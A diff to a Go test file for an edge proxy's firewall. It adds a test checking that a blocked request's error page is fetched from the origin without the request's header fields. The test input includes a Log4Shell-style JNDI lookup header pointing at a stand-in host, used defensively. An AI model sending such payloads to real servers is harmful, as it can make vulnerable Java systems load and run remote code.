@@ -10,6 +10,8 @@ import (
 	"testing/synctest"
 	"time"
 
+	"github.com/groundfront/groundfront/origin/requestpolicy"
+	"github.com/groundfront/groundfront/proxy/errorpage"
 	"github.com/groundfront/groundfront/proxy/viewer"
 	"github.com/groundfront/groundfront/waf"
 	"github.com/groundfront/groundfront/waf/ipset"
@@ -195,6 +197,28 @@ func TestEngineBehindTheViewer(t *testing.T) {
 		time.Sleep(15 * time.Second)
 		if g := e.ask("GET http://shop.test/p", ""); g.status != 403 || no.asked != 1 || e.requests() != 1 {
 			t.Errorf("a stale hit: got %d, asked %d times, and %d requests at the origin, want 403, once, and 1", g.status, no.asked, e.requests())
+		}
+	})
+}
+
+// TestBlockedPage: the page in place of that for a blocked request is asked for
+// without the fields of the request.
+func TestBlockedPage(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		acl, err := waf.New(waf.Config{Name: "edge", Default: waf.Handling{Action: waf.ActionBlock}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		e := newEdge(t, ok("", "sorry"), func(s *Snapshot) {
+			d := s.Distributions[0]
+			d.WebACL, d.ErrorResponses = acl, errorResponses(t, errorpage.Rule{Status: 403, PagePath: "/sorry.html", ResponseCode: 403})
+			if d.Behaviors[0].Rules.RequestPolicy, err = requestpolicy.New(requestpolicy.Config{Headers: requestpolicy.HeadersAllViewer}); err != nil {
+				t.Fatal(err)
+			}
+		})
+		g := e.ask("GET http://shop.test/p", "X-Attack: ${jndi:ldap://example.com/a}")
+		if g.status != 403 || g.content.String() != "sorry" || e.asked[0].Fields.Has("X-Attack") {
+			t.Errorf("got %d %q, and the origin saw %v", g.status, g.content.String(), e.asked[0].Fields)
 		}
 	})
 }
